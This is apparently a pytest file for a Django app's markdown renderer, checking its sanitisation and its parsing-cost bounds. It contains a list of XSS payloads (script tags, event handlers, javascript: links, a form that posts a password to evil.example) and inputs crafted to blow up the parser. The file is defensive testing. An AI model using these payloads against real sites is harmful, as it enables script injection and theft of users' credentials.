import re
from html.parser import HTMLParser

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from incidents.markdown import bounds, render
from incidents.markdown.rendering import TOO_MUCH, as_written
from incidents.models import Incident
from lessons.models import Lesson
from tests.factories import make_incident

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<div onclick=alert(1)>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<div id=main class=masthead>x</div>",
    "<a id=q name=q href=#>x</a>",
    "<sup data-cite='\"><script>alert(1)</script>'></sup>",
    "<sup data-cite='aws' onmouseover=alert(1)></sup>",
    '[@aws"><script>alert(1)</script>]',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<script>alert(1)</script>",
    "<p>" * 3000,
]
ALLOWED = {
    "p",
    "a",
    "code",
    "pre",
    "div",
    "span",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "sup",
    "li",
    "ul",
    "input",
    "br",
}


class Tags(HTMLParser):
    """Every opening tag that a browser would find, with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_attack_string_leaves_anything_that_acts(attack):
    html = render(attack)

    for name, attributes in Tags(html).found:
        assert name in ALLOWED
        assert set(attributes) <= {"class", "title", "href", "rel", "data-cite", "type", "disabled", "checked", "start"}
        assert not re.match(r"\s*(javascript|vbscript|data)", attributes.get("href") or "", re.IGNORECASE)
        assert name != "input" or (attributes["type"], attributes["disabled"]) == ("checkbox", "")
        assert re.fullmatch(r"[a-z0-9 -]*", attributes.get("data-cite", ""))
        assert all(name == "codehilite" or len(name) < 3 for name in (attributes.get("class") or "").split())


def test_a_writer_has_lists_tables_code_and_links():
    html = render(
        "1. one\n2. two\n\n| a | b |\n|---|---|\n| c | d |\n\n`code` and <https://example.com/>"
        "\n\n```python\nx = 1\n```"
    )

    for piece in ("<ol>", "<td>c</td>", "<code>code</code>", 'href="https://example.com/"', "codehilite"):
        assert piece in html


def test_headings_in_a_text_stand_below_those_of_the_page():
    assert render("# One\n\n#### Four") == '<h3 id="text--one">One</h3>\n<h4 id="text--four">Four</h4>'


def test_a_picture_becomes_a_link_so_that_nothing_is_loaded_from_elsewhere():
    html = render("![the graph](https://example.com/graph.png)")

    assert "<img" not in html
    assert 'href="https://example.com/graph.png"' in html
    assert "the graph" in html


# As real authors write


def test_a_list_may_follow_a_line_straight_away():
    assert render("It said:\n- one\n- two").startswith("<p>It said:</p>\n<ul>\n<li>one</li>")


def test_a_table_may_follow_a_line_straight_away():
    assert "<td>c</td>" in render("These were hit:\n| a | b |\n|---|---|\n| c | d |")


def test_two_blanks_make_a_list_in_a_list():
    assert render("- a\n  - b").count("<ul>") == 2


def test_code_in_a_list_item_keeps_all_its_text():
    html = render("- run\n  ```\n  <script>alert(1)</script>\n  ```\n- then")

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html.count("<li>") == 2


def test_tags_that_are_none_of_ours_are_text():
    html = render("`Vec<u8>` is Vec<u8>, a<b>c, <host>, <kbd>Ctrl</kbd> and <b>bold</b>")

    assert "Vec&lt;u8&gt;, a&lt;b&gt;c, &lt;host&gt;, <kbd>Ctrl</kbd> and <strong>bold</strong>" in html


def test_half_a_tag_is_text():
    assert render("*a <kbd>b* c</kbd> </sub>") == "<p><em>a &lt;kbd&gt;b</em> c&lt;/kbd&gt; &lt;/sub&gt;</p>"


def test_tildes_before_numbers_are_tildes():
    assert render("~200ms→~900ms, ~~gone~~") == "<p>~200ms→~900ms, <s>gone</s></p>"


def test_footnotes_have_ids_of_their_field_and_all_are_shown():
    html = render("a[^1] b[^1] c[^2]\n\n[^1]: one\n[^2]: two\n[^3]: three", "impact")

    assert html.count('href="#impact--fn.1"') == 2
    assert html.count('id="impact--fnref.1"') == html.count('href="#impact--fnref.1"') == 1
    assert '<li id="impact--fn.3"><p>three</p>' in html


@pytest.mark.parametrize(
    ("text", "url", "rest"),
    [
        ("(see https://en.wikipedia.org/wiki/A_(b))", "https://en.wikipedia.org/wiki/A_(b)", ")"),
        ("[x](https://en.wikipedia.org/wiki/A_(b))", "https://en.wikipedia.org/wiki/A_(b)", ""),
        ("https://example.com/a_b_c/_d_?e=f#g.", "https://example.com/a_b_c/_d_?e=f#g", "."),
        ("www.example.com, too", "http://www.example.com", ", too"),
        ("on-call@example.com.", "mailto:on-call@example.com", "."),
        ("https://example.com/[@aws]", "https://example.com/", '<sup data-cite="aws"></sup>'),
    ],
)
def test_an_address_ends_where_the_sentence_goes_on(text, url, rest):
    html = render(text)

    assert f'<a href="{url}"' in html
    assert html.endswith(f"</a>{rest}</p>")


def test_links_to_headings_lead_to_them_within_the_same_text():
    html = render("# What we saw\n# What we saw\n[x](#what-we-saw) [y](#source-1) [z](#what-we-saw-1)", "narrative")

    assert 'id="narrative--what-we-saw"' in html
    assert 'href="#narrative--what-we-saw"' in html
    assert 'href="#narrative--what-we-saw-1"' in html
    assert 'href="#source-1"' in html


def test_a_picture_says_that_it_is_not_shown():
    assert "<p><a href=" in render("![the graph](https://example.com/graph.png)")
    assert ">image, not shown: the graph</a>" in render("![the graph](https://example.com/graph.png)")
    assert ">image, not shown: graph.png</a>" in render("![](https://example.com/graph.png)")
    assert render("[![b](c.png)](https://example.com/)").count("<a ") == 1


def test_tasks_say_whether_they_are_done():
    html = render("- [x] one\n- [ ] two")

    assert 'checked="" aria-label="done"' in html
    assert 'aria-label="not done"' in html


def test_comments_say_nothing_and_the_words_around_them_stay():
    assert render("<!-- a\n\nb --> words\n\nand <!-- c --> more") == "<p>words</p>\n<p>and  more</p>"


# Bounds

HOSTILE = [
    "[", "[[", "![", "[@a", "[[a|", "[a](", "![a](b", "[a]: b\n", "*a ", "*_", "**a b** ", "`a", "``` \n", "~~a ",
    "<a ", "<!--", "<!--\n", "<b>", "<b></b>", "<http://", "http://a ", "http://", "a@", "a.", "a@b.c ", "www.a.b ",
    "# a\n", "#\n", "- ", "- a\n", "-\n", "1. ", "- [ ] \n", "> ", ">\n", "> > a\nb\n", "a\n: b\n", "|a|\n|-|\n",
    "a|b\n-|-\n", "|", "[^1]", "[^1]: a\n", "[^", "[[a]]", "&", "\"", "\\", " ", " \n", "\t", "    a\n\n", "\0", "é",
    "```java\na<a+a<\n```\n",
]  # fmt: skip


def table(columns, rows, row="a|b\n"):
    return "a|" * columns + "\n" + "-|" * columns + "\n" + row * rows


SHAPES = {
    "a table of missing cells": table(2_500, 1_250),
    "a narrower one": table(190, 5_000),
    "many tables of missing cells": table(6, 3, "|\n") * 1_000,
    "blanks in a fence": "```" + " " * 20_000,
    "an address of dots": "a." * 10_000 + "@b.c",
    "lists in lists": "".join("  " * depth + "- a\n" for depth in range(200)),
    "quotes in quotes": "> " * 20 + "a\n" + "b\n" * 10_000,
    "emphasis in emphasis": "*a " * 3_000 + "b* " * 3_000,
    "brackets in brackets": "[" * 10_000 + "]" * 10_000,
    "links in links": "[" * 4_000 + "](a)" * 4_000,
    "pictures in pictures": "![" * 3_000 + "](a)" * 3_000,
    "many links to one long address": "[x]: http://" + "y" * 10_000 + "\n\n" + "[x]" * 3_000,
    "many pictures of one long address": "[x]: http://" + "y" * 10_000 + "\n\n" + "![x]" * 3_000,
    "many pointers to one note": "[^1]: a\n\n" + "[^1]" * 5_000,
    "open brackets beside a note": "[^1]: a\n\n" + "[^" * 10_000,
    "a comment that ends at last": "<!--\n" * 4_000 + "--> x",
    "headings of one name": "# a\n" * 2_000 + "# a-1\n" * 2_000,
}


#: The slowest of all at the greatest length of a text, as measured: repeated, these are what the bounds are for.
SLOWEST = ["- [ ] \n", "-\n", "> > a\nb\n", "`a"]


@pytest.mark.parametrize(
    "text",
    [
        *(piece * (10_000 // len(piece)) for piece in HOSTILE),
        *SHAPES.values(),
        *(piece * (bounds.LONGEST // len(piece)) for piece in SLOWEST),
    ],
)
def test_no_text_takes_many_steps_or_grows_without_end(text, monkeypatch):
    """Every step of the parser is counted; beyond the most that are allowed it goes no further."""
    steps = []

    def counting(env, number):
        steps.append(number)
        return count(env, number)

    count = bounds.count
    monkeypatch.setattr(bounds, "count", counting)
    html = render(text)

    assert sum(steps) <= bounds.MOST_STEPS + bounds.MOST_COLUMNS * len(text)
    assert len(html) <= 20 * len(text)
    assert html == as_written(text) or sum(steps) <= bounds.MOST_STEPS


@given(st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=4).map("".join), st.integers(1, 60))
def test_html_is_never_much_longer_than_its_text(piece, times):
    text = piece * times

    assert len(render(text)) <= bounds.LARGEST * len(text) + bounds.AT_LEAST


@pytest.mark.parametrize(
    "text",
    [
        "\n".join("  " * depth + "- <b>" for depth in range(300)),
        ">" * 50 + " <b>",
        "*a " * 50 + "<b>" + "b* " * 50,
        SHAPES["a table of missing cells"],
        "<b>words</b> " * (bounds.LONGEST // 10),
    ],
)
def test_what_would_cost_too_much_is_shown_as_it_was_written(text):
    assert render(text) == as_written(text)


def test_the_author_of_such_a_text_is_told_so_and_nothing_of_it_is_markup():
    html = render("<b>words</b> " * (bounds.LONGEST // 10))

    assert TOO_MUCH in html
    assert "<b>" not in html
    assert html.count("&lt;b&gt;words") == bounds.LONGEST // 10


def test_an_ordinary_text_may_be_as_long_as_a_text_may_be():
    section = "### A heading\n\n" + "Ordinary words, *many* of them, with `code`. " * 5
    section += "A [link](http://a.b/c_(d)) and a source.[@aws]\n\n- one\n- two\n\n"
    count = bounds.LONGEST // len(section)

    html = render(section * count)

    assert html.count("<h3") == html.count('href="http://a.b/c_(d)"') == count


def test_code_too_long_to_colour_is_shown_all_the_same():
    code = "x = 1\n" * 2_000

    assert f"<code>{code}</code>" in render(f"```python\n{code}```")


def test_a_long_text_keeps_all_its_links():
    html = render("An [open bracket, a [link [in] it](https://example.com/a_(b) 'c') and one more.\n\n" * 2_000)

    assert html.count('<a href="https://example.com/a_(b)"') == 2_000


def test_links_out_pass_on_no_trust():
    assert 'rel="nofollow noopener noreferrer"' in render("[x](https://example.com/)")


@pytest.mark.django_db
def test_html_is_written_with_its_markdown_even_when_only_that_field_is_saved():
    incident = make_incident(narrative="*before*")
    incident.narrative = "*after*"
    incident.save(update_fields=["narrative"])
    incident.refresh_from_db()

    assert incident.narrative_html == "<p><em>after</em></p>"


@pytest.mark.django_db
def test_html_follows_when_rows_are_made_in_bulk():
    lesson = Lesson.objects.bulk_create([Lesson(slug="a", name="A", statement="Do.", why="*why*")])[0]

    assert Lesson.objects.values_list("why_html", flat=True).get(pk=lesson.pk).endswith("--><p><em>why</em></p>")


@pytest.mark.django_db
def test_what_another_renderer_made_is_rendered_anew_when_it_is_read():
    incident = make_incident(narrative="*words*")
    type(incident).objects.filter(pk=incident.pk).update(narrative_html="<!--0 x--><script>alert(1)</script>")
    incident.refresh_from_db()

    assert incident.narrative_html == "<p><em>words</em></p>"


@pytest.mark.django_db
def test_a_text_that_did_not_change_is_not_rendered_again(monkeypatch):
    incident = make_incident(narrative="*words*", summary="*more*")
    rendered = []

    def render(text, field):
        rendered.append(field)
        return text

    monkeypatch.setattr("incidents.markdown.fields.render", render)
    incident = type(incident).objects.get(pk=incident.pk)
    incident.summary = "*other*"
    incident.save()

    assert incident.narrative_html == "<p><em>words</em></p>"
    assert rendered == ["summary"]


def test_the_history_of_lessons_holds_no_html():
    assert not [field.name for field in Lesson.history.model._meta.fields if field.name.endswith("_html")]


@pytest.mark.django_db
def test_render_texts_stores_what_an_older_version_rendered_and_touches_nothing_else(capsys):
    incident = make_incident(narrative="*words* [[blast-radius]]", summary="fine")
    Incident.objects.filter(pk=incident.pk).update(narrative_html="<!--0 x-->old")
    incident.wikilinks.all().delete()
    before = Incident.objects.values("updated_at", "version", "summary_html").get(pk=incident.pk)

    call_command("render_texts")
    call_command("render_texts")

    told = [line for line in capsys.readouterr().out.splitlines() if line.startswith("incidents:")]
    stored = Incident.objects.values_list("narrative_html", flat=True).get(pk=incident.pk)
    assert told == ["incidents: 1 of 1 looked at, 1 rendered anew", "incidents: 1 of 1 looked at, 0 rendered anew"]
    assert stored.endswith('--><p><em>words</em> <span data-wikilink="blast-radius">blast-radius</span></p>')
    assert Incident.objects.values("updated_at", "version", "summary_html").get(pk=incident.pk) == before
    assert incident.wikilinks.count() == 1
